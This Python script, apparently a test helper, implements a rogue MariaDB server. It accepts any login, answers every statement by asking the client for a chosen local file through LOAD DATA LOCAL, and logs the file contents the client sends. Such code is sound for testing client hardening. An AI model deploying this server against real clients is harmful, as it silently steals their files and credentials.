#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A database server that lets everybody in and answers every statement by asking for a file of the client's (LOAD DATA LOCAL).
Usage: rogue_database.py FILE RECORD    prints its port; keeps in RECORD what it is sent after having asked for FILE."""
import socket
import struct
import sys

CAPABILITIES = 0x0000F7FF | 0x80 | 0x00080000  # all of the old ones, local files, authentication plugins


def packet(number, payload):
    return struct.pack("<I", len(payload))[:3] + bytes([number]) + payload


def read(client):
    head = client.recv(4, socket.MSG_WAITALL)
    if len(head) < 4:
        return None, b""
    size = int.from_bytes(head[:3], "little")
    return head[3], client.recv(size, socket.MSG_WAITALL) if size else b""


def serve(client, wanted, record):
    greeting = b"\x0a" + b"5.5.5-10.11.0-MariaDB\0" + struct.pack("<I", 7) + b"12345678" + b"\0"
    greeting += struct.pack("<HBHH", CAPABILITIES & 0xFFFF, 45, 2, CAPABILITIES >> 16) + bytes([21]) + b"\0" * 10
    client.sendall(packet(0, greeting + b"123456789012\0" + b"mysql_native_password\0"))
    number, _ = read(client)
    client.sendall(packet(number + 1, b"\0\0\0\2\0\0\0"))
    while True:
        number, command = read(client)
        if number is None or command[:1] == b"\x01":
            return
        record.write(b"asked\n")
        client.sendall(packet(number + 1, b"\xfb" + wanted))
        while True:
            number, content = read(client)
            record.write(b"sent " + content + b"\n")
            record.flush()
            if not content or number is None:
                break
        if number is None:
            return
        client.sendall(packet(number + 1, b"\0\0\0\2\0\0\0"))


def main():
    wanted = sys.argv[1].encode()
    with socket.create_server(("127.0.0.1", 0)) as server, open(sys.argv[2], "ab") as record:
        print(server.getsockname()[1], flush=True)
        while True:
            client, _ = server.accept()
            with client:
                try:
                    serve(client, wanted, record)
                except OSError:
                    pass


main()
